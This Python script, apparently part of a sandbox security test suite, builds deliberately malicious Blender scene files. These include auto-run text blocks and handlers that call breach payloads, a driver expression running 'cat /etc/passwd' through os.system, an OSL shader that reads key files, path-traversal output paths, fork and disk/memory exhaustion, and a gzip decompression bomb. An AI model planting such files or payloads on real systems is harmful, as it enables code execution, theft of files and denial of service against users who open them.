"""Makes the hostile scenes: blender -b --factory-startup -P make-scenes.py -- FOLDER TARGETS.json

Each is a cube of 32 by 18 pixels and one way to do harm. `breach.py` beside this file is what most of them try once
they run; it says `BREACH` and what it reached, in Blender's log, and the test looks from outside as well.
"""

import gzip
import json
import os
import sys

import bpy

folder, targets_path = sys.argv[sys.argv.index("--") + 1 :][:2]
with open(targets_path) as file:
    targets = json.load(file)
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "breach.py")) as file:
    BREACH = "TARGETS = %r\n" % (targets,) + file.read()


def start(engine="BLENDER_WORKBENCH"):
    bpy.ops.wm.read_factory_settings()
    scene = bpy.context.scene
    scene.render.engine = engine
    scene.render.resolution_x, scene.render.resolution_y = 32, 18
    scene.render.resolution_percentage = 100
    scene.cycles.samples = 1
    scene.cycles.use_denoising = False
    scene.frame_end = 3
    return scene


def save(name):
    bpy.ops.wm.save_as_mainfile(filepath=os.path.join(folder, name + ".blend"), check_existing=False)


def text(name, code, runs=True):
    block = bpy.data.texts.new(name)
    block.write(code)
    block.use_module = runs
    return block


def on_load(name, code):
    """A text that Blender runs when it opens the file and scripts are trusted."""
    start()
    text("payload.py", code)
    save(name)


on_load("load", BREACH + "\nbreach('load')\n")
on_load(
    "handler",
    BREACH + "\nimport bpy\nbpy.app.handlers.frame_change_pre.append(lambda *_: breach('handler'))\n"
    "bpy.app.handlers.render_write.append(lambda *_: breach('write handler'))\n",
)
on_load("background", BREACH + "\nstay_behind()\n")
on_load("forks", BREACH + "\nfork_without_end()\n")
on_load("disk", BREACH + "\nfill_disk(deleted=False)\n")
on_load("hidden-disk", BREACH + "\nfill_disk(deleted=True)\n")
on_load("endless-file", BREACH + "\nwrite_one_file()\n")
on_load("far-file", BREACH + "\nimport bpy\nbpy.app.handlers.render_pre.append(lambda *_: write_far_off())\n")
# Python ignores the signal; who takes it back is ended by it.
TAKE_BACK = "\nimport bpy\nsignal.signal(signal.SIGXFSZ, signal.SIG_DFL)\n"
on_load("far-file-signal", BREACH + TAKE_BACK + "bpy.app.handlers.render_pre.append(lambda *_: write_far_off())\n")
on_load("far-file-opening", BREACH + TAKE_BACK + "write_far_off()\n")
on_load("files", BREACH + "\nmake_files()\n")
on_load("memory", BREACH + "\ntake_memory()\n")
on_load("liar", BREACH + "\nlie()\n")
on_load("babbler", BREACH + "\nbabble()\n")
on_load("links", BREACH + "\nexchange_frames()\n")
on_load("killer", BREACH + "\nkill_parent()\n")

scene = start()
text("payload.py", BREACH + "\nimport bpy\nbpy.app.driver_namespace['breach'] = breach\n")
driver = bpy.data.objects["Cube"].driver_add("location", 0).driver
driver.expression = "breach('driver') or 0"
# Without the text: what a driver can do with nothing but its own expression.
driver = bpy.data.objects["Cube"].driver_add("location", 1).driver
driver.expression = "(__import__('os').system('cat /etc/passwd; touch %s') or 0) * 0" % targets["outside"]
save("driver")

scene = start("CYCLES")
scene.render.use_freestyle = True
settings = bpy.context.view_layer.freestyle_settings
settings.mode = "SCRIPT"
settings.modules.new().script = text("style.py", BREACH + "\nbreach('style module')\n", runs=False)
save("freestyle")

scene = start("CYCLES")
scene.cycles.shading_system = True
code = 'shader leak(output color Out = 0) { Out = texture("%s", 0.5, 0.5); printf("OSL %%s\\n", "%s"); }' % (
    targets["picture"],
    targets["key"],
)
material = bpy.data.materials.new("osl")
material.use_nodes = True
node = material.node_tree.nodes.new("ShaderNodeScript")
node.script = text("leak.osl", code, runs=False)
bpy.data.objects["Cube"].data.materials[0] = material
save("osl")


def show_picture(name, path):
    """The cube fills the view and shines with the picture's colours."""
    scene = start("CYCLES")
    scene.view_settings.view_transform = "Standard"
    material = bpy.data.materials.new("picture")
    material.use_nodes = True
    tree = material.node_tree
    tree.nodes.clear()
    texture, shine, out = (
        tree.nodes.new(kind) for kind in ("ShaderNodeTexImage", "ShaderNodeEmission", "ShaderNodeOutputMaterial")
    )
    image = bpy.data.images.new("picture", 4, 4)
    image.source = "FILE"
    image.filepath = path
    texture.image = image
    tree.links.new(texture.outputs[0], shine.inputs[0])
    tree.links.new(shine.outputs[0], out.inputs[0])
    cube = bpy.data.objects["Cube"]
    cube.data.materials[0] = material
    cube.scale = (50, 50, 50)
    save(name)


show_picture("picture", targets["picture"])
show_picture("passwd", "/etc/passwd")

scene = start()
scene.render.filepath = "//../../../../outside-output"
scene.use_nodes = True
node = scene.node_tree.nodes.new("CompositorNodeOutputFile")
node.base_path = "//../../../"
node.file_slots[0].path = "../../outside-node"
scene.node_tree.links.new(scene.node_tree.nodes["Render Layers"].outputs[0], node.inputs[0])
plane = bpy.data.objects["Cube"]
cloth = plane.modifiers.new("cloth", "CLOTH")
cloth.point_cache.use_disk_cache = True
cloth.point_cache.use_external = True
cloth.point_cache.filepath = "//../../outside-cache"
save("paths")

# Half a gigabyte of nothing in half a megabyte; Blender unpacks it as it reads.
with gzip.open(os.path.join(folder, "bomb.blend"), "wb", 6) as file:
    file.write(b"BLENDER-v304")
    length = 0x7FFFFFF0
    file.write(b"DATA" + length.to_bytes(4, "little") + bytes(16))
    for _ in range(512):
        file.write(bytes(1024 * 1024))
